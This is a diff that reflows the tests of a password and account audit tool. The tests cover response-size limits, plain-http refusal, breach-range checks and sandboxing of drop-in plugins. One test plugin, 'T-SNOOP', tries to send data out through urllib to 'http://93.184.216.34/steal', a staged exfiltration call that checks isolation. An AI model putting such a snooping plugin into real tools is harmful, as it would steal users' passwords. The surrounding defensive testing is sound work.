@@ -33,8 +33,9 @@ def test_an_oversized_answer_is_refused_without_reading_it_all() -> None:
     def handler(request: httpx.Request) -> httpx.Response:
         return httpx.Response(200, stream=httpx.ByteStream(b"") if False else _Gen(endless()))
 
-    client = make_client(["api.pwnedpasswords.com"], offline=False, timeout=5,
-                         transport=httpx.MockTransport(handler))
+    client = make_client(
+        ["api.pwnedpasswords.com"], offline=False, timeout=5, transport=httpx.MockTransport(handler)
+    )
     with pytest.raises(NetworkError, match="larger than 64 MB"):
         client.get("https://api.pwnedpasswords.com/range/5BAA6")
     assert len(sent) <= 66
@@ -50,11 +51,13 @@ class _Gen(httpx.SyncByteStream):
 
 def test_a_declared_huge_length_is_refused_at_once() -> None:
     def handler(request: httpx.Request) -> httpx.Response:
-        return httpx.Response(200, headers={"Content-Length": str(10 * 1024**3)},
-                              stream=_Gen(iter([b"{}"])))
+        return httpx.Response(
+            200, headers={"Content-Length": str(10 * 1024**3)}, stream=_Gen(iter([b"{}"]))
+        )
 
-    client = make_client(["en.wikipedia.org"], offline=False, timeout=5,
-                         transport=httpx.MockTransport(handler))
+    client = make_client(
+        ["en.wikipedia.org"], offline=False, timeout=5, transport=httpx.MockTransport(handler)
+    )
     with pytest.raises(NetworkError, match="larger than"):
         client.get("https://en.wikipedia.org/w/api.php")
 
@@ -75,8 +78,10 @@ def dripping_server() -> Iterator[str]:
             except TimeoutError:
                 continue
             conn.recv(65536)
-            conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
-                         b"Content-Length: 100000\r\n\r\n")
+            conn.sendall(
+                b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
+                b"Content-Length: 100000\r\n\r\n"
+            )
             try:
                 for _ in range(200):
                     if stop.is_set():
@@ -109,10 +114,23 @@ def test_an_empty_or_unpadded_range_answer_is_never_not_breached(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     for body in ("", "0018A45C4D1DEF81644B54AB7F969B88D65:3\r\n"):
-        monkeypatch.setattr(http, "default_transport", lambda body=body: httpx.MockTransport(
-            lambda request: httpx.Response(200, text=body)))
-        result = runner.invoke(app, ["run", "-f", "json", "--only", "HA-B", "--passwords",
-                                     str(write_vault(tmp_path, "chrome"))])
+        monkeypatch.setattr(
+            http,
+            "default_transport",
+            lambda body=body: httpx.MockTransport(lambda request: httpx.Response(200, text=body)),
+        )
+        result = runner.invoke(
+            app,
+            [
+                "run",
+                "-f",
+                "json",
+                "--only",
+                "HA-B",
+                "--passwords",
+                str(write_vault(tmp_path, "chrome")),
+            ],
+        )
         row = {c["id"]: c for c in json.loads(result.stdout)["checks"]}["HA-B"]
         assert row["status"] == "error", row
         pwned = runner.invoke(app, ["pwned"], input="Summer2023!\n")
@@ -121,9 +139,9 @@ def test_an_empty_or_unpadded_range_answer_is_never_not_breached(
 
 
 @pytest.mark.parametrize("option", ["--wiki", "--hibp-api"])
-def test_plain_http_is_refused_unless_loopback_or_explicit(option: str,
-                                                           monkeypatch: pytest.MonkeyPatch
-                                                           ) -> None:
+def test_plain_http_is_refused_unless_loopback_or_explicit(
+    option: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
     url = "http://en.wikipedia.org/w/api.php"
     if option == "--wiki":
         refused = runner.invoke(app, ["run", "--only", "HA-U", "--wiki", url, "-u", "Ana"])
@@ -133,11 +151,24 @@ def test_plain_http_is_refused_unless_loopback_or_explicit(option: str,
     assert refused.exit_code == 2
     assert "plain http" in refused.stderr
     if option == "--wiki":
-        allowed = runner.invoke(app, ["run", "--only", "HA-U", "--wiki", url, "-u", "Ana",
-                                      "--allow-http", "-f", "json"])
+        allowed = runner.invoke(
+            app, ["run", "--only", "HA-U", "--wiki", url, "-u", "Ana", "--allow-http", "-f", "json"]
+        )
         assert allowed.exit_code == 0, allowed.output
-        local = runner.invoke(app, ["run", "--only", "HA-U", "-u", "Ana", "-f", "json",
-                                    "--wiki", "http://127.0.0.1:8080/w/api.php"])
+        local = runner.invoke(
+            app,
+            [
+                "run",
+                "--only",
+                "HA-U",
+                "-u",
+                "Ana",
+                "-f",
+                "json",
+                "--wiki",
+                "http://127.0.0.1:8080/w/api.php",
+            ],
+        )
         assert local.exit_code == 0, local.output
 
 
@@ -161,17 +192,37 @@ return CheckResult.of([self.finding("T-SNOOP001", evidence=repr((reachable, foun
 
 
 def snoop(directory: Path, body: str = SNOOP) -> Path:
-    return write_check(directory, "T-SNOOP", body, title="Declares only the profile",
-                       inputs="Input.PROFILE", imports="import urllib.request")
+    return write_check(
+        directory,
+        "T-SNOOP",
+        body,
+        title="Declares only the profile",
+        inputs="Input.PROFILE",
+        imports="import urllib.request",
+    )
 
 
 def test_a_drop_in_check_gets_only_what_it_declared_and_no_network_offline(
     tmp_path: Path,
 ) -> None:
     plugins = snoop(tmp_path / "plugins")
-    result = runner.invoke(app, ["run", "--offline", "-f", "json", "--checks-dir",
-                                 str(plugins), "--only", "T-SNOOP", "--only", "HA-P",
-                                 "--passwords", str(write_vault(tmp_path, "chrome"))])
+    result = runner.invoke(
+        app,
+        [
+            "run",
+            "--offline",
+            "-f",
+            "json",
+            "--checks-dir",
+            str(plugins),
+            "--only",
+            "T-SNOOP",
+            "--only",
+            "HA-P",
+            "--passwords",
+            str(write_vault(tmp_path, "chrome")),
+        ],
+    )
     report = json.loads(result.stdout)
     row = {c["id"]: c for c in report["checks"]}["T-SNOOP"]
     assert row["status"] == "error"
@@ -181,11 +232,27 @@ def test_a_drop_in_check_gets_only_what_it_declared_and_no_network_offline(
 
 
 def test_what_a_profile_only_check_can_reach(tmp_path: Path) -> None:
-    plugins = snoop(tmp_path / "plugins", SNOOP.replace(
-        '    urllib.request.urlopen("http://93.184.216.34/steal", timeout=2)', "    pass"))
-    result = runner.invoke(app, ["run", "--offline", "-f", "json", "--checks-dir",
-                                 str(plugins), "--only", "T-SNOOP", "--passwords",
-                                 str(write_vault(tmp_path, "chrome"))])
+    plugins = snoop(
+        tmp_path / "plugins",
+        SNOOP.replace(
+            '    urllib.request.urlopen("http://93.184.216.34/steal", timeout=2)', "    pass"
+        ),
+    )
+    result = runner.invoke(
+        app,
+        [
+            "run",
+            "--offline",
+            "-f",
+            "json",
+            "--checks-dir",
+            str(plugins),
+            "--only",
+            "T-SNOOP",
+            "--passwords",
+            str(write_vault(tmp_path, "chrome")),
+        ],
+    )
     finding = json.loads(result.stdout)["findings"][0]
     reachable, found = eval(finding["evidence"])
     assert "_inputs" not in reachable
